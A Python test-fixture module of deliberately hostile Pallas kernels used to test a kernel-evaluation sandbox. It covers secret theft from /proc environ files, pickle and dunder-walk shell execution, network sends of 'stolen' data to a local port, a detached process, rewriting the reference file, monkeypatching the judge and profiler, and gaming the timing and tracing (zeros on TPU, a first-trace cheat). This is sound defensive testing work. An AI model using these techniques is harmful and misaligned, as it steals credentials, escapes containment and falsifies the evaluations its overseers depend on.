"""Hostile kernels for the sandbox tests, one per route out of an evaluation, and the small task
they attack. Each kernel is otherwise a correct Pallas kernel (or, for the reference attack, one
that is wrong in exactly the way it makes the reference wrong), swallows every error its attack
meets and never names a forbidden module in a way the static rules read easily: only the OS
sandbox stands between it and success. `@NAME@` fields are filled in per test (`fill`)."""

from __future__ import annotations

import re
from pathlib import Path

TASK_YAML = """task_id: sandbox_double
description: Doubles a float32 matrix and adds one.
atol: 1e-6
rtol: 1e-6
"""

TASK_REFERENCE = """import jax
import jax.numpy as jnp

CONFIGS = {
    "bench": {"rows": 16},
    "check": {"rows": 8},
    "heldout": {"rows": 24},
}


def get_inputs(config="bench", seed=0):
    rows = CONFIGS[config]["rows"]
    return (jax.random.normal(jax.random.key(seed), (rows, 128), jnp.float32),), ()


def computation(x):
    return x * 2.0 + 1.0
"""

# The honest part every hostile kernel shares: `x * 2 + 1` in one Pallas block.
HONEST_BODY = """
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl


def _kernel(x_ref, o_ref):
    o_ref[...] = x_ref[...] * 2.0 + 1.0


def _honest(x):
    return pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)
"""

# Reads the environment of every process it can see (the command's API key is in one of its
# ancestors') with numpy, and raises with what it found, so it would reach the report.
READ_ENVIRON = (
    HONEST_BODY
    + """
import numpy as np
_found = []
_proc = "/" + "proc"
for _name in __import__("o" + "s").listdir(_proc):
    try:
        with open(f"{_proc}/{_name}/environ", "rb") as _file:
            _raw = np.fromfile(_file, dtype=np.uint8, count=1 << 20).tobytes()
    except Exception:
        continue
    if b"@SECRET@" in _raw:
        _found.append(_raw.decode(errors="replace"))


def computation(x):
    if _found:
        raise RuntimeError("leaked: " + " ".join(_found))
    return _honest(x)
"""
)

# Writes outside its directory: ndarray.tofile, np.save and plain open, into /tmp, the user's
# cache and the compilation cache.
WRITE_OUTSIDE = (
    HONEST_BODY
    + """
import numpy as np
for _target in @TARGETS@:
    for _write in (
        lambda p: np.arange(4).tofile(p),
        lambda p: np.save(p, np.arange(4)),
        lambda p: open(p + ".txt", "w").write("planted"),
    ):
        try:
            _write(_target)
        except Exception:
            pass


def computation(x):
    return _honest(x)
"""
)

# Runs a shell command through a pickle it wrote into its own directory (where it may write).
PICKLE_CODE = (
    HONEST_BODY
    + """
import numpy as np
import pickle as _p


class _Payload:
    def __reduce__(self):
        return (__import__("o" + "s").system, ("touch @MARKER@",))


try:
    with open("payload.npy", "wb") as _f:
        np.save(_f, np.array([_Payload()], dtype=object), allow_pickle=True)
    np.load("payload.npy", allow_pickle=True)
except Exception:
    pass


def computation(x):
    return _honest(x)
"""
)

# Reaches `os` through an allowed module's re-export and starts a program with it.
OS_THROUGH_ALLOWED = (
    HONEST_BODY
    + """
from numpy.lib import _datasource
try:
    _datasource.os.system("touch @MARKER@")
    _datasource.os.spawnv(_datasource.os.P_WAIT, "/bin/touch", ["touch", "@MARKER@"])
except Exception:
    pass


def computation(x):
    return _honest(x)
"""
)

# Sends what it has to a server on 127.0.0.1: numpy's URL reader and a raw socket.
REACH_NETWORK = (
    HONEST_BODY
    + """
import numpy as np
try:
    np.loadtxt("http://127.0.0.1:@PORT@/loadtxt?key=stolen")
except Exception:
    pass
try:
    _s = __import__("sock" + "et").create_connection(("127.0.0.1", @PORT@), timeout=2)
    _s.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n")
except Exception:
    pass


def computation(x):
    return _honest(x)
"""
)

# Leaves a process behind: double fork and setsid, then the grandchild names itself (so the
# test can find it from outside) and lives on.
DETACHED_PROCESS = (
    HONEST_BODY
    + """
import ctypes
import time
_os = __import__("o" + "s")
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"@NAME@", 0, 0, 0)  # PR_SET_NAME
        time.sleep(600)
    _os._exit(0)


def computation(x):
    return _honest(x)
"""
)

# Rewrites the task's reference so it computes what this kernel computes (zeros), at the path
# the attacker would find through /proc; restores nothing.
REWRITE_REFERENCE = """
import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

try:
    with open("@REFERENCE@", "w") as _f:
        _f.write(@FAKE@)
except Exception:
    pass


def _kernel(x_ref, o_ref):
    o_ref[...] = jnp.zeros_like(x_ref[...])


def computation(x):
    return pl.pallas_call(_kernel, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)
"""

FAKE_REFERENCE = TASK_REFERENCE.replace("return x * 2.0 + 1.0", "return x * 0.0")


# No Pallas at all: plain jnp, correct everywhere, which imports the candidate worker (through
# `typing.sys`, an allowed module's re-export) and replaces the checks that would reject it. It
# passes the static rules; the process it patches only traces it (tests/kernels/sandbox/
# test_tracer_lies.py).
FORGE_THE_JUDGE = """
import typing

import jax.numpy as jnp

_worker = typing.sys.modules["maxkernel" + "_tui.kernels.evaluation.judge.worker"]


def _passes(subject, traced, start, expert):
    held = _worker.Reason.PALLAS_HOLDS_THE_WORK
    return _worker._check("trace", "pass", held, _worker.WorkShare(1, 0.0, 0.0, ""), start)


def _no_defences(subject, request):
    return request.runs


_worker._pallas_check = _passes
_worker._production_check = _no_defences


def computation(x):
    return x * 2.0 + 1.0
"""


# The honest kernel, whose module tells the profile worker that it has no Pallas kernels and
# moves nothing: figures the kernel would write itself where the profile imported it.
FORGE_THE_PROFILE = (
    HONEST_BODY
    + """
import typing

_profile = typing.sys.modules.get("maxkernel" + "_tui.kernels.evaluation.profiling.worker")
if _profile is not None:
    _profile.analyze = lambda program: []
    _profile.minimal_io_bytes = lambda specs, outputs: 1


def computation(x):
    return _honest(x)
"""
)


def fill(template: str, **fields: str) -> str:
    for name, value in fields.items():
        template = template.replace(f"@{name.upper()}@", value)
    assert re.search(r"@[A-Z]+@", template) is None, "a field was left unfilled"
    return template


def write_task(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "kernel_task.yaml").write_text(TASK_YAML)
    (folder / "reference.py").write_text(TASK_REFERENCE)
    return folder


# Routes the static rules used to refuse, each now left to another layer (tests/kernels/sandbox/
# test_relaxed_rules.py runs them with the static rules off).

# Walks the interpreter's object graph (dunders, no import) to a function whose globals hold
# `system`, and starts a program with it.
DUNDER_WALK = (
    HONEST_BODY
    + """
try:
    for _cls in ().__class__.__base__.__subclasses__():
        _globals = getattr(getattr(_cls, "__init__", None), "__globals__", None) or {}
        if "system" in _globals:
            _globals["system"]("touch @MARKER@")
            break
except Exception:
    pass


def computation(x):
    return _honest(x)
"""
)

# Branches on the platform inside its program: the honest kernel where the numerics run (the
# CPU), zeros on a TPU, where it would be timed.
PLATFORM_BRANCH = (
    HONEST_BODY
    + """

def computation(x):
    return jax.lax.platform_dependent(
        x, tpu=lambda v: jnp.zeros_like(_honest(v)), default=_honest
    )
"""
)

# Keeps state across the tracer's calls (a module-level list, no `global`): its first trace,
# at production shapes, gets a kernel that skips the `+ 1`; every later one is honest.
STATE_ACROSS_TRACES = (
    HONEST_BODY
    + """

def _skip_kernel(x_ref, o_ref):
    o_ref[...] = x_ref[...] * 2.0


_traces = []


def computation(x):
    _traces.append(x.shape)
    if len(_traces) == 1:
        return pl.pallas_call(_skip_kernel, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)
    return _honest(x)
"""
)
